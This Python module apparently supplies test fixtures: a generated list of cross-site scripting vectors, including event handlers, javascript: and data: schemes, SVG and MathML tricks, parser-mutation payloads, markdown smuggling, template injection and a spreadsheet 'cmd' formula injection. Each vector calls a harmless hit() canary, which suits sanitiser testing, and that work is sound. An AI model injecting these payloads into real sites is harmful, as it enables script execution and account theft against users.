"""Strings that would run a script where a page takes them for more than words. Each calls ``hit()``.

They are made by families, so that a new idea adds a score of strings.
"""

from collections.abc import Iterator
from itertools import product

RUN = "hit()"
EVENTS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle"),
    *("onbeforematch", "onscrollend", "onwheel", "oncopy", "onfuture"),
)
SCHEMES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "\x01javascript:hit()",
    " javascript:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "&#x6a;avascript&#x3a;hit()",
    "javascript:hit()//https://example.org",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hit()>",
    "vbscript:hit()",
    "blob:https://example.org/hit()",
    "view-source:javascript:hit()",
    "feed:javascript:hit()",
    "javascript://%0ahit()",
)


def _plain_elements() -> Iterator[str]:
    for tag in ("script", "SCRIPT", "scr\x00ipt", "script/x", "script\n"):
        yield f"<{tag}>{RUN}</script>"
    yield "<script src=data:,hit()></script>"
    yield "<scr<script>ipt>hit()</scr</script>ipt>"
    yield "<<script>hit()//<</script>"
    for tag in ("iframe", "object", "embed", "frame", "portal", "fencedframe"):
        attribute = "data" if tag == "object" else "src"
        yield f'<{tag} {attribute}="javascript:hit()"></{tag}>'
    yield '<iframe srcdoc="<script>parent.hit()</script>"></iframe>'
    yield '<meta http-equiv="refresh" content="0;url=javascript:hit()">'
    yield '<base href="javascript:hit()//">'
    yield '<form action="javascript:hit()"><button>x</button></form>'
    yield '<button formaction="javascript:hit()">x</button>'
    yield '<isindex type=image src=1 onerror="hit()">'
    yield "<link rel=stylesheet href=javascript:hit()>"
    yield "<template><script>hit()</script></template>"
    yield "<img src=x:x onerror=hit()>"


def _events() -> Iterator[str]:
    for event, tag in product(EVENTS, ("img src=x", "details open", "input autofocus", "p tabindex=1")):
        yield f"<{tag} {event}=hit()>"
    for separator in ("/", "\x0c", "\x0b", "\t", "\n", "\r"):
        yield f"<img{separator}src=x{separator}onerror=hit()>"
    yield '"><img src=x onerror=hit()>'
    yield "'><img src=x onerror=hit()>"
    yield "' onmouseover='hit()' x='"
    yield '" onfocus="hit()" autofocus="'
    yield "` onerror=`hit()`"
    yield "--><img src=x onerror=hit()><!--"
    yield "--!><img src=x onerror=hit()>"
    yield "]]><img src=x onerror=hit()>"
    for closed in ("title", "textarea", "style", "script", "noscript", "select", "xmp", "option", "pre"):
        yield f"</{closed}><img src=x onerror=hit()>"


def _links() -> Iterator[str]:
    for address in SCHEMES:
        yield f"[x]({address})"
        yield f"[x](<{address}>)"
        yield f"<{address}>"
        yield f'<a href="{address}">x</a>'
    yield "[x]: javascript:hit()\n\n[x]"
    yield "![x](javascript:hit())"
    yield '![x" onerror="hit()](x)'
    yield '[x](https://example.org "onmouseover=hit()")'
    yield "[x](https://example.org'onmouseover='hit())"
    yield 'https://example.org/"onmouseover="hit()'


def _drawings() -> Iterator[str]:
    yield "<svg onload=hit()>"
    yield "<svg><script>hit()</script></svg>"
    yield "<svg><script href=data:,hit() /></svg>"
    yield "<svg><animate onbegin=hit() attributeName=x dur=1s>"
    yield '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>'
    yield "<svg><a><animate attributeName=href values=javascript:hit() /><text y=20>x</text></a></svg>"
    yield "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>"
    yield "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'/></svg>"
    yield "<math><mtext><img src=x onerror=hit()></mtext></math>"
    yield '<math href="javascript:hit()">x</math>'
    yield "<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>"


def _mutations() -> Iterator[str]:
    for outer, inner in product(("svg", "math", "table", "select", "noscript", "template"), ("style", "title", "p")):
        yield f'<{outer}><{inner}><a title="</{inner}><img src=x onerror=hit()>">'
    yield "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>"
    yield '<svg></p><style><a id="</style><img src=x onerror=hit()>">'
    yield '<noscript><p title="</noscript><img src=x onerror=hit()>">'
    yield "<listing>&lt;img src=x onerror=hit()&gt;</listing>"
    yield "<plaintext><img src=x onerror=hit()>"
    yield "<!--><img src=x onerror=hit()>-->"
    yield "<?xml version=1?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit()</x:script>"


def _markdown() -> Iterator[str]:
    yield "`<img src=x onerror=hit()>`"
    yield "```html\n<script>hit()</script>\n```"
    yield '```"><script>hit()</script>\nx\n```'
    yield "| <img src=x onerror=hit()> |\n| --- |\n| <script>hit()</script> |"
    yield "[^x]\n\n[^x]: <img src=x onerror=hit()>"
    yield "[^<img src=x onerror=hit()>]\n\n[^<img src=x onerror=hit()>]: x"
    yield "> <script>hit()</script>"
    yield "# <img src=x onerror=hit()>"
    yield "1. <svg onload=hit()>"
    yield "@[<img src=x onerror=hit()>]"
    yield "&lt;img src=x onerror=hit()&gt;"
    yield "&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;"
    yield "\\<img src=x onerror=hit()\\>"


def _programs() -> Iterator[str]:
    """What other languages would run on the way: templates, formats, spreadsheets, htmx."""
    yield "{{ hit() }}{% load x %}${hit()}#{hit()}"
    yield "{{constructor.constructor('hit()')()}}"
    yield '=HYPERLINK("javascript:hit()","x")'
    yield "@SUM(1+1)*cmd|' /C hit'!A0"
    yield '<div hx-get="/" hx-trigger="load" hx-on:htmx:load="hit()">x</div>'
    yield "<p data-hx-on:click=hit() data-hx-get=/ data-hx-trigger=load>x</p>"
    yield "<a id=csrfmiddlewaretoken name=attributes href=x>x</a>"
    yield '<p style="background:url(javascript:hit())">x</p>'
    yield "<style>@import 'javascript:hit()';*{background:url(javascript:hit())}</style>"
    yield "\u202e<script>hit()</script>"
    yield "\ufeff<script>hit()</script>"
    yield "+ADw-script+AD4-hit()+ADw-/script+AD4-"
    yield "\u2028<script>hit()</script>\u2029"


FAMILIES = (_plain_elements, _events, _links, _drawings, _mutations, _markdown, _programs)
VECTORS = list(dict.fromkeys(vector for family in FAMILIES for vector in family()))
